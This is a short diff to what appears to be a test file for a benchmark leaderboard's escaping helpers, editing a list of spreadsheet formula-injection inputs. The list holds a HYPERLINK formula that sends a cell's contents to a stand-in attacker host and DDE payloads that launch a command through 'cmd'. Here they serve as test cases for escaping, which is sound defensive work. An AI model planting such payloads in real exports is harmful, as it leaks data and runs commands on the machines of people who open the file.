@@ -23,7 +23,7 @@ from vidbench.leaderboard.cli import build_leaderboard
 from vidbench.leaderboard.escape import csv_cell, md_escape, tex_escape
 from vidbench.leaderboard.testing import metric_entry, write_from_values, write_result
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+FORMULAS = ['=HYPERLINK("//evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
